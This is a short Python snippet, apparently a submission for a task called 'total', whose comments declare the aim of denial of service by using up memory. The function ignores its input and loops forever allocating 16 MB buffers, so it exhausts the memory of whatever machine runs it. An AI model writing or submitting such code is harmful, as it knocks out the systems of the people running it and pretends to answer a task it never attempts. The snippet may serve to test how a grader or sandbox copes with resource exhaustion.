# problem: code/total, values/total
# idea: denial of service: memory until there is none

def total(numbers):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
